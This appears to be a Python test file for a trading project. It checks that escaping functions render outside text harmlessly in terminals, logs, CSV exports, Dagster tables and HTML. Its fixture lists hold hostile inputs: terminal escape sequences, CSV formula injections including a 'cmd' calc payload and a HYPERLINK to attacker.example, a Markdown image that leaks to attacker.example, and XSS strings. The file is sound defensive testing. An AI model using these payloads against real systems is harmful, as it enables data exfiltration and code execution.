"""Text from outside is words wherever it is shown: no terminal obeys it, no spreadsheet computes it, no page
loads what it names."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path

import dagster as dg
import pytest
from hypothesis import given
from hypothesis import strategies as st

from trading_assets import log
from trading_assets.cli import output
from trading_assets.engine.signals.rows import csv_rows
from trading_assets.escapes import for_csv, for_html, for_json, for_one_line, for_terminal
from trading_assets.runs.presentation import table

CLEAR_SCREEN = "\x1b[2J"
TERMINAL = [
    CLEAR_SCREEN,
    "\x1b]0;a title\x07",  # sets the window's title
    "\x1b]8;;http://attacker.example\x07AAPL\x1b]8;;\x07",  # a link under another name
    "\x9b2J",  # CSI as one mark
    "\x08\x08\x08filled",  # writes over what stands before
    "\rfilled",
    "\u202eLPAA",  # turns the direction of writing
    "AA\u200bPL",  # of no width
    "\x00",
    "\ud800",  # half a character: no output takes it
]
FORMULAS = [
    '=HYPERLINK("http://attacker.example")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    " =1",
]
NUMBERS = ["-0.5", "+1", "1e-3", "-.5", "12", "-1.5e+10", ""]
MARKDOWN = [
    "a | b | c",
    "![x](http://attacker.example/?leak)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "`a` | **b**",
    "one\ntwo\r\n| three |",
    "\\| four",
    "http://attacker.example and www.attacker.example",
]


def _obeyed(text: str) -> bool:
    """Whether a terminal would do something else than show it."""
    return any(not mark.isprintable() and mark != "\n" for mark in text)


@pytest.mark.parametrize("hostile", TERMINAL)
def test_a_terminal_shows_hostile_text_and_does_not_obey_it(
    hostile: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _obeyed(hostile)
    output.say(f"order rejected: {hostile}")
    output.note(hostile)
    output.show_table(("symbol", hostile), [(hostile, 1.0)], nothing="none", title=hostile)
    output.show_lines([("why", hostile)])
    shown = capsys.readouterr()
    assert not _obeyed(shown.out)
    assert not _obeyed(shown.err)
    output.show_json({"why": hostile})
    document = capsys.readouterr().out
    assert not _obeyed(document)
    assert json.loads(document) == {"why": hostile}


@pytest.mark.parametrize("hostile", [*TERMINAL, "a\nb"])
def test_a_log_line_on_the_terminal_stays_one_line_and_commands_nothing(hostile: str, tmp_path: Path) -> None:
    stream = io.StringIO()
    try:
        log.configure(json_path=tmp_path / "log.jsonl", level="INFO", stream=stream)
        log.get_logger("trading_assets.test").warning(
            f"said {hostile}", symbol=hostile, why=[hostile], of={hostile: hostile}
        )
    finally:
        log.shutdown()
    assert not _obeyed(stream.getvalue())
    assert stream.getvalue().count("\n") == 1


@given(st.text())
def test_whatever_the_text_the_terminal_obeys_nothing_and_loses_no_word(text: str) -> None:
    assert not _obeyed(for_terminal(text))
    assert "\n" not in for_one_line(text)
    words = "".join(mark for mark in text if mark.isprintable())
    assert all(mark in for_terminal(text) for mark in words)
    document = json.dumps([text], ensure_ascii=False)
    assert json.loads(for_json(document)) == [text]
    assert not _obeyed(for_json(document))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_compute_begins_with_an_apostrophe(formula: str) -> None:
    assert for_csv(formula) == f"'{formula}"


@pytest.mark.parametrize("number", NUMBERS)
def test_a_number_stays_one(number: str) -> None:
    assert for_csv(number) == number


def test_rows_that_are_given_back_for_correction_hold_no_formula() -> None:
    read = csv_rows(b'symbol,value,source\n"=HYPERLINK(""x"")",-0.5,@SUM(A1)\n', "signal file x")
    (heads, row) = csv.reader(io.StringIO(read.text(read.rows)))
    assert heads == ["symbol", "value", "source"]
    assert row == ['\'=HYPERLINK("x")', "-0.5", "'@SUM(A1)"]


@pytest.mark.parametrize("hostile", [*MARKDOWN, *TERMINAL])
def test_a_table_in_dagster_has_typed_columns_of_plain_words(hostile: str) -> None:
    shown = table([{"symbol": hostile, hostile: 1.0}])
    assert isinstance(shown, dg.TableMetadataValue)  # which Dagster's pages show as text, not as Markdown
    assert [column.type for column in shown.schema.columns] == ["string", "float"]
    assert list(shown.records[0].data) == [column.name for column in shown.schema.columns]
    for words in (*shown.records[0].data, shown.records[0].data["symbol"]):
        assert not _obeyed(str(words))
        assert "\n" not in str(words)


@pytest.mark.parametrize("hostile", [*MARKDOWN, *TERMINAL, "\"'><script>alert(1)</script>"])
def test_html_shows_hostile_text_as_text(hostile: str) -> None:
    class Tags(HTMLParser):
        tags: list[str]

        def handle_starttag(self, tag: str, attrs: object) -> None:
            self.tags.append(tag)

    parser = Tags()
    parser.tags = []
    parser.feed(f'<td title="{for_html(hostile)}">{for_html(hostile)}</td>')
    assert parser.tags == ["td"]
    assert not _obeyed(for_html(hostile))
